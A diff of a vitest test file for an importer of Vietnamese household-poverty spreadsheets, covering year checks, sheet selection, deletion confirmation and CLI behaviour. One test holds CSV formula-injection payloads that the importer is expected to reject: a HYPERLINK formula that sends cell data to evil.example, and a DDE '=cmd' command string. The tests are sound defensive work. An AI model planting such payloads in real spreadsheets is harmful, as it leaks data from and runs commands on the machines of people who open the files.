@@ -1,36 +1,21 @@
 import { spawnSync } from 'node:child_process';
-import { mkdtempSync, readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
-import { tmpdir } from 'node:os';
+import { readdirSync, readFileSync } from 'node:fs';
 import path from 'node:path';
 import { describe, expect, it } from 'vitest';
 import { loadSnapshot } from '../src/domain/export/snapshot.ts';
 import { observationsTable, tableCsv } from '../src/domain/export/tables.ts';
 import { importSpreadsheet, type ImportOptions } from '../src/domain/import/import.ts';
+import { nodeWriteOps, type WriteOps } from '../src/domain/release/write.ts';
 import { formatImportProblem } from '../src/domain/import/problems.ts';
+import { runCli } from '../scripts/cli/run.ts';
+import { main as importMain } from '../scripts/import.ts';
 import { validate } from '../src/domain/validation/validate.ts';
 import { MINI_RELEASE, writeMini } from './fixtures/mini.ts';
 import { xlsx } from './fixtures/import/xlsx.ts';
+import { scratchFiles, tree } from './helpers/files.ts';
 
 const DRAFT = '2026.1';
-const scratch = mkdtempSync(path.join(tmpdir(), 'import-test-'));
-let n = 0;
-const file = (name: string, content: string | Buffer) => {
-  const target = path.join(scratch, `${n++}-${name}`);
-  writeFileSync(target, content);
-  return target;
-};
-
-/** Every file under a directory with its bytes, to prove nothing was touched. */
-function tree(dir: string): Record<string, string> {
-  const out: Record<string, string> = {};
-  for (const e of readdirSync(dir, { recursive: true, withFileTypes: true })) {
-    if (e.isFile()) {
-      const p = path.join(e.parentPath, e.name);
-      out[path.relative(dir, p)] = readFileSync(p).toString('base64') + statSync(p).mtimeMs;
-    }
-  }
-  return out;
-}
+const { scratch, file } = scratchFiles('import-test-');
 
 function setup() {
   const { root, dataRoot } = writeMini();
@@ -158,9 +143,9 @@ describe('import from .xlsx', () => {
     expect(result.summary.rows).toBe(3);
     // 5.5 written for 50 of 1,000 (5.00%): a warning, the rate is recomputed
     expect(messages(result, 'warning')).toEqual([
-      'dòng 6, cột "Hộ cận nghèo – Tỷ lệ (%)" (H): tỷ lệ ghi trong bảng (5,5) khác tỷ lệ tính từ số hộ (5,00%); trang web dùng tỷ lệ tính từ số hộ',
+      'trang tính "Sheet1", dòng 6, cột "Hộ cận nghèo – Tỷ lệ (%)" (H): tỷ lệ ghi trong bảng (5,5) khác tỷ lệ tính từ số hộ (5,00%); trang web dùng tỷ lệ tính từ số hộ',
     ]);
-    expect(messages(result, 'notice')).toEqual(['dòng 4: dòng đánh số cột, bỏ qua', 'dòng 9: không có mã đơn vị và số liệu, bỏ qua: "Người lập biểu"']);
+    expect(messages(result, 'notice')).toEqual(['trang tính "Sheet1", dòng 4: dòng đánh số cột, bỏ qua', 'trang tính "Sheet1", dòng 9: không có mã đơn vị và số liệu, bỏ qua: "Người lập biểu"']);
     const o = draftObservations().observations.find((x: any) => x.unit === '10004' && x.year === 2024);
     expect(o).toMatchObject({ households: 1000, poor: 60, nearPoor: 50 });
   });
@@ -176,8 +161,8 @@ describe('import from .xlsx', () => {
     });
     const result = await run(file('cong.xlsx', sheet), { source: QD7 });
     expect(messages(result)).toEqual([
-      'dòng 2, cột "Số hộ nghèo" (E): 140,5 không phải số nguyên; số hộ phải là số nguyên',
-      expect.stringMatching(/^dòng 3: "Cộng" là dòng tổng cộng/),
+      'trang tính "Sheet1", dòng 2, cột "Số hộ nghèo" (E): 140,5 không phải số nguyên; số hộ phải là số nguyên',
+      expect.stringMatching(/^trang tính "Sheet1", dòng 3: "Cộng" là dòng tổng cộng/),
     ]);
   });
 });
@@ -214,10 +199,23 @@ describe('what an import may touch', () => {
     expect(tree(path.join(dataRoot, 'releases'))).toEqual(once);
   });
 
-  it('--replace-years removes the records of those years that the file lacks', async () => {
-    const { run, draftObservations } = setup();
+  it('--replace-years removes the records of those years that the file lacks, once --delete confirms how many', async () => {
+    const { dataRoot, run, draftObservations } = setup();
     const csv = 'Mã đơn vị,Năm,Tổng số hộ,Số hộ nghèo,Số hộ cận nghèo\n10001,2024,1000,100,100\n10002,2024,1000,100,100\n101,2024,2000,200,200\n';
-    const result = await run(file('thay.csv', csv), { source: 'x', replaceYears: true });
+    const before = tree(dataRoot);
+    // the dry run says how many records would go and which
+    const dry = await run(file('thay.csv', csv), { source: 'x', replaceYears: true, dryRun: true });
+    expect(dry.ok).toBe(true);
+    expect(dry.summary).toMatchObject({ removed: 3, removedUnits: ['thị trấn Đình Lập (10003) năm 2024', 'xã Tân Văn (10004) năm 2024', 'thành phố Na Sầm (102) năm 2024'] });
+    expect(dry.problems.find((p) => p.rule === 'replace-years-unconfirmed')).toMatchObject({ level: 'warning', message: expect.stringContaining('chạy lại với --delete 3') });
+    // without --delete, or with another count, nothing is removed
+    for (const deleteCount of [undefined, 2]) {
+      const refused = await run(file('thay.csv', csv), { source: 'x', replaceYears: true, deleteCount });
+      expect(refused.ok, String(deleteCount)).toBe(false);
+      expect(refused.problems.filter((p) => p.level === 'error').map((p) => p.rule)).toEqual(['replace-years-unconfirmed']);
+      expect(tree(dataRoot)).toEqual(before);
+    }
+    const result = await run(file('thay.csv', csv), { source: 'x', replaceYears: true, deleteCount: 3 });
     expect(result.ok).toBe(true);
     expect(result.summary).toMatchObject({ removed: 3 });
     const kept = draftObservations().observations.filter((o: any) => o.vintage === '2020-01' && o.year === 2024).map((o: any) => o.unit);
@@ -240,21 +238,173 @@ describe('what an import may touch', () => {
   });
 });
 
+describe('importer without traps (issue 10)', () => {
+  const HEADER = 'Mã đơn vị,Năm,Tổng số hộ,Số hộ nghèo,Số hộ cận nghèo\n';
+
+  it('refuses a year outside the vintage\'s period, at its cell, naming the vintage to use', async () => {
+    const { dataRoot, run, messages } = setup();
+    const before = tree(dataRoot);
+    // 2025 figures filed under 2020-01 would attach to the old communes that share the codes
+    const result = await run(file('nam-sai.csv', HEADER + '10001,2025,1000,90,100\n'), { source: 'x' });
+    expect(result.ok).toBe(false);
+    expect(messages(result)).toEqual([
+      'dòng 2, cột "Năm" (B): năm 2025 nằm ngoài thời kỳ địa giới 2020-01 (01/01/2020–30/11/2024): mã đơn vị của năm đó thuộc thời kỳ khác, cùng một mã có thể là một đơn vị khác; số liệu năm 2025 nhập với --vintage 2025-07',
+    ]);
+    // the same with --year for the whole file: said once, not once a row
+    const whole = await run(file('nam-sai.csv', 'Mã đơn vị,Tổng số hộ,Số hộ nghèo,Số hộ cận nghèo\n10001,1000,90,100\n10002,1000,90,100\n'), { source: 'x', year: 2025 });
+    expect(whole.problems.filter((p) => p.level === 'error').map((p) => [p.rule, p.row])).toEqual([['year-outside-vintage', undefined]]);
+    expect(tree(dataRoot)).toEqual(before);
+  });
+
+  it('reads the year from the sheet\'s title when there is no year column', async () => {
+    const { run, draftObservations, messages } = setup();
+    const sheet = xlsx({
+      rows: [['BIỂU TỔNG HỢP KẾT QUẢ RÀ SOÁT HỘ NGHÈO, HỘ CẬN NGHÈO NĂM 2024'], ['Mã đơn vị', 'Tổng số hộ', 'Số hộ nghèo', 'Số hộ cận nghèo'], ['10001', 1000, 100, 101], ['101', 2000, 200, 201]],
+    });
+    const result = await run(file('tieu-de.xlsx', sheet), { source: QD7 });
+    expect(messages(result)).toEqual([]);
+    expect(messages(result, 'notice')).toContain('trang tính "Sheet1", dòng 1: không có cột năm: năm 2024 lấy từ tiêu đề "BIỂU TỔNG HỢP KẾT QUẢ RÀ SOÁT HỘ NGHÈO, HỘ CẬN NGHÈO NĂM 2024"');
+    expect(draftObservations().observations.find((o: any) => o.unit === '10001' && o.year === 2024)).toMatchObject({ nearPoor: 101 });
+    const none = await run(file('khong-nam.csv', 'Kết quả rà soát\nMã đơn vị,Tổng số hộ,Số hộ nghèo,Số hộ cận nghèo\n10001,1000,100,101\n'), { source: QD7 });
+    expect(messages(none)).toEqual([expect.stringMatching(/Thiếu: năm .*ghi năm trong tiêu đề phía trên bảng \("… NĂM 2025"\) hoặc dùng --year 2025\.$/)]);
+  });
+
+  it('--sheet picks a worksheet; every message names the sheet read', async () => {
+    const { run, messages } = setup();
+    const book = xlsx({
+      sheets: [
+        { name: 'Hướng dẫn', rows: [['Điền số liệu ở trang sau']] },
+        { name: 'KQ 2024', rows: [['Mã đơn vị', 'Năm', 'Tổng số hộ', 'Số hộ nghèo', 'Số hộ cận nghèo'], ['10001', 2024, 1000, '12,5', 101], ['10002', 2024, 1000, 100, 100]], merges: [] },
+      ],
+    });
+    const first = await run(file('hai-trang.xlsx', book), { source: QD7 });
+    expect(first.summary).toMatchObject({ sheet: 'Hướng dẫn', sheets: ['Hướng dẫn', 'KQ 2024'] });
+    expect(messages(first)[0]).toMatch(/^trang tính "Hướng dẫn": không tìm thấy dòng tiêu đề/);
+    const second = await run(file('hai-trang.xlsx', book), { source: QD7, sheet: 'KQ 2024' });
+    expect(second.summary.sheet).toBe('KQ 2024');
+    expect(messages(second)).toEqual([expect.stringMatching(/^trang tính "KQ 2024", dòng 2, cột "Số hộ nghèo" \(D\): "12,5" có dấu phẩy/)]);
+  });
+
+  it('summarises a warning repeated on many rows: "N mã bị Excel bỏ số 0 ở đầu"', async () => {
+    const { readRows } = await import('../src/domain/import/rows.ts');
+    const { SourceRegistry } = await import('../src/domain/import/sources.ts');
+    const { summariseRepeated } = await import('../src/domain/import/problems.ts');
+    const codes = ['05971', '05974', '05977', '05980', '05983'];
+    const vintage = { id: '2025-07', validFrom: '2025-07-01', validTo: null, units: codes.map((code) => ({ code, level: 'commune' as const, name: `X${code}`, type: 'xã' as const, parent: '20' })) };
+    const grid = { kind: 'csv' as const, merges: [], rows: [['Mã', 'Năm', 'Tổng số hộ', 'Số hộ nghèo', 'Số hộ cận nghèo'], ...codes.map((c) => [Number(c), 2025, 1000, 10, 10])] };
+    const read = readRows(grid, { vintage, sources: new SourceRegistry([]), source: 'QĐ' });
+    expect(summariseRepeated(read.problems).filter((p) => p.level === 'warning').map(formatImportProblem)).toEqual([
+      '5 mã bị Excel bỏ số 0 ở đầu (các dòng 2–6), đã được hiểu đúng; nên định dạng cột mã là Văn bản (Text)',
+    ]);
+  });
+
+  it('sets the draft\'s title and notes from --title and --notes, on creation and after', async () => {
+    const { dataRoot, run } = setup();
+    const manifest = () => JSON.parse(readFileSync(path.join(dataRoot, 'releases', 'index.json'), 'utf8')).releases.find((r: any) => r.id === DRAFT);
+    await run(file('a.csv', awkwardCsv), { title: 'Kết quả rà soát năm 2024', notes: 'Sửa  số hộ xã Hoa Thám.' });
+    expect(manifest()).toMatchObject({ title: 'Kết quả rà soát năm 2024', notes: 'Sửa số hộ xã Hoa Thám.', status: 'draft' });
+    const again = await run(file('a.csv', awkwardCsv), { notes: 'Số liệu chính thức năm 2024.' });
+    expect(again.files).toEqual(['releases/index.json']);
+    expect(manifest()).toMatchObject({ title: 'Kết quả rà soát năm 2024', notes: 'Số liệu chính thức năm 2024.' });
+  });
+
+  it('rejects formula-like text in sources and names, at the cell or for the flag', async () => {
+    const { dataRoot, run, messages } = setup();
+    const before = tree(dataRoot);
+    const csv = 'Mã đơn vị,Tên đơn vị,Năm,Tổng số hộ,Số hộ nghèo,Số hộ cận nghèo,Nguồn\n' +
+      `10001,Hoa Thám,2024,1000,100,101,"=HYPERLINK(""http://evil.example/?x=""&A1,""x"")"\n` +
+      `101,@SUM(1+1),2024,2000,200,201,${QD7}\n`;
+    const result = await run(file('cong-thuc.csv', csv));
+    expect(messages(result)).toEqual([
+      expect.stringMatching(/^dòng 2, cột "Nguồn" \(G\): "=HYPERLINK\(.*" bắt đầu bằng "=": Excel sẽ hiểu ô như vậy là công thức/),
+      expect.stringMatching(/^dòng 3, cột "Tên đơn vị" \(B\): "@SUM\(1\+1\)" bắt đầu bằng "@"/),
+    ]);
+    await expect(run(file('a.csv', awkwardCsv), { source: "=cmd|' /C calc'!A0" })).rejects.toMatchObject({ kind: 'usage', message: expect.stringContaining('--source') });
+    expect(tree(dataRoot)).toEqual(before);
+  });
+
+  it('a draft made from a demo release starts without its synthetic records', async () => {
+    const { root, dataRoot } = writeMini((f) => {
+      f.manifest.releases[0].status = 'demo';
+      // the province's own 2021 figure has a derived (real) source; everything else in the mini release is synthetic
+    });
+    const result = await importSpreadsheet({
+      dataRoot, releaseId: DRAFT, vintage: '2025-07', file: file('xa.csv', HEADER + '20001,2025,3000,150,250\n20002,2025,2100,120,200\n'),
+      source: 'Quyết định số 83/QĐ-UBND ngày 15/01/2026', contentRoot: path.join(root, 'content'),
+    });
+    expect(result.problems.filter((p) => p.level === 'error')).toEqual([]);
+    expect(result.summary.fromDemo).toEqual({
+      kept: { observations: 1, classifications: 0, recognitions: 0 },
+      dropped: { observations: 27, classifications: 5, recognitions: 1, sources: 2 },
+    });
+    const draft = (name: string) => JSON.parse(readFileSync(path.join(dataRoot, 'releases', DRAFT, name), 'utf8'));
+    const obs = draft('observations.json');
+    expect(obs.observations.map((o: any) => `${o.vintage}/${o.unit}/${o.year}`)).toEqual(['2020-01/20/2021', '2025-07/20001/2025', '2025-07/20002/2025']);
+    expect(obs.sources.map((s: any) => s.kind)).toEqual(['derived', 'official']);
+    expect(draft('recognitions.json')).toEqual({ recognitions: [], sources: [] });
+    const units = draft('units.json');
+    expect(units.vintages.flatMap((v: any) => v.units).some((u: any) => u.classifications)).toBe(false);
+    // the 2020-01 vintage's basis is a synthetic source in this fixture: it stays, as it is referred to
+    expect(units.sources.map((s: any) => s.id)).toEqual(['s-phan-loai']);
+    expect(units.vintages.map((v: any) => v.units.length)).toEqual([7, 3]);
+    expect(draft('crosswalks.json')).toEqual(JSON.parse(readFileSync(path.join(dataRoot, 'releases', MINI_RELEASE, 'crosswalks.json'), 'utf8')));
+  });
+
+  it('writes through unique temporary files in the same folder and leaves none behind', async () => {
+    const { dataRoot, run } = setup();
+    await run(file('a.csv', awkwardCsv));
+    const temporaries: string[] = [];
+    const writeOps: WriteOps = {
+      writeNew: (f, bytes) => { temporaries.push(f); nodeWriteOps.writeNew(f, bytes); },
+      rename: nodeWriteOps.rename,
+    };
+    const result = await run(file('b.csv', awkwardCsv.replace('90;100', '90;101').replace('190;200', '190;201')), { writeOps, title: 'Bản nháp mới' });
+    expect(result.files).toEqual([`releases/${DRAFT}/observations.json`, 'releases/index.json']);
+    expect(temporaries).toHaveLength(2);
+    for (const [t, target] of temporaries.map((t, i) => [t, path.join(dataRoot, result.files[i]!)] as const)) {
+      expect(path.dirname(t)).toBe(path.dirname(target));
+      expect(path.basename(t)).toMatch(new RegExp(`^\\.${path.basename(target).replace('.', '\\.')}\\.${process.pid}-[0-9a-f]{8}\\.tmp$`));
+    }
+    expect(readdirSync(dataRoot, { recursive: true }).filter((f) => String(f).endsWith('.tmp'))).toEqual([]);
+  });
+});
+
 describe('npm run import', () => {
-  const cli = (...args: string[]) => spawnSync(process.execPath, ['scripts/import.ts', ...args], { encoding: 'utf8' });
-  it('exits 0 after writing, 1 on problems, 2 on usage', () => {
+  // In-process: the command's own main, so the test measures the importer, not Node's start-up (a spawned run timed out under load).
+  const cli = async (...args: string[]) => {
+    const lines = { out: [] as string[], err: [] as string[] };
+    const status = await runCli((io) => importMain(args, io), { out: (l) => lines.out.push(l), err: (l) => lines.err.push(l) });
+    return { status, stdout: lines.out.join('\n'), stderr: lines.err.join('\n') };
+  };
+  it('exits 0 after writing, 1 on problems, 2 on usage', async () => {
     const { root, dataRoot } = writeMini();
     const common = ['--data', dataRoot, '--content', path.join(root, 'content')];
-    const ok = cli('--release', DRAFT, '--vintage', '2020-01', file('a.csv', awkwardCsv), ...common);
+    const ok = await cli('--release', DRAFT, '--vintage', '2020-01', file('a.csv', awkwardCsv), ...common);
     expect(ok.status).toBe(0);
     expect(ok.stdout).toContain(`Đã thêm 0, sửa 3, giữ nguyên 0 bản ghi trong bản nháp ${DRAFT} (tạo mới, chép từ phiên bản ${MINI_RELEASE}).`);
-    const bad = cli('--release', DRAFT, '--vintage', '2020-01', file('b.csv', awkwardCsv.replace('90;100', '90;1.950')), ...common);
+    const bad = await cli('--release', DRAFT, '--vintage', '2020-01', file('b.csv', awkwardCsv.replace('90;100', '90;1.950')), ...common);
     expect(bad.status).toBe(1);
     expect(bad.stdout).toContain('lỗi  dòng 2, cột "so ho ngheo" (E): hộ nghèo + hộ cận nghèo = 2040 vượt tổng số hộ 1000');
-    expect(cli('--release', DRAFT, file('a.csv', awkwardCsv), ...common).status).toBe(2);
-    expect(cli('--release', DRAFT, '--vintage', '1999-01', file('a.csv', awkwardCsv), ...common).status).toBe(2);
-    expect(cli('--release', MINI_RELEASE, '--vintage', '2020-01', file('a.csv', awkwardCsv), ...common).status).toBe(1);
+    expect((await cli('--release', DRAFT, file('a.csv', awkwardCsv), ...common)).status).toBe(2);
+    expect((await cli('--release', DRAFT, '--vintage', '1999-01', file('a.csv', awkwardCsv), ...common)).status).toBe(2);
+    expect((await cli('--release', MINI_RELEASE, '--vintage', '2020-01', file('a.csv', awkwardCsv), ...common)).status).toBe(1);
   });
+  it('sets a draft\'s title and notes without a file, and refuses a published release\'s', async () => {
+    const { root, dataRoot } = writeMini();
+    const common = ['--data', dataRoot, '--content', path.join(root, 'content')];
+    expect((await cli('--release', DRAFT, '--vintage', '2020-01', file('a.csv', awkwardCsv), ...common)).status).toBe(0);
+    const set = await cli('--release', DRAFT, '--notes', 'Số liệu chính thức năm 2024;  sửa xã Hoa Thám.', ...common);
+    expect(set).toMatchObject({ status: 0, stdout: `Đã ghi tên bản nháp ${DRAFT}: "Kết quả rà soát hộ nghèo, hộ cận nghèo (bản nháp ${DRAFT})"; ghi chú: "Số liệu chính thức năm 2024; sửa xã Hoa Thám.".` });
+    const entry = JSON.parse(readFileSync(path.join(dataRoot, 'releases', 'index.json'), 'utf8')).releases.find((r: any) => r.id === DRAFT);
+    expect(entry.notes).toBe('Số liệu chính thức năm 2024; sửa xã Hoa Thám.');
+    const published = await cli('--release', MINI_RELEASE, '--title', 'Tên mới', ...common);
+    expect(published).toMatchObject({ status: 1, stderr: 'Lỗi dữ liệu: phiên bản 2025.1 đang ở trạng thái "published": tên và ghi chú của nó không được sửa' });
+  });
+  it('runs as a command: the same exit code and no stack trace from a spawned process', () => {
+    const spawned = spawnSync(process.execPath, ['scripts/import.ts', '--release', DRAFT, '--vintage', '2020-01', path.join(scratch, 'khong-co.csv'), '--data', 'data'], { encoding: 'utf8', timeout: 60_000 });
+    expect(spawned.status).toBe(2);
+    expect(spawned.stderr.trim()).toBe(`Sai tham số: không có tệp ${path.join(scratch, 'khong-co.csv')}`);
+  }, 60_000);
 });
 
 describe('the small rules', async () => {
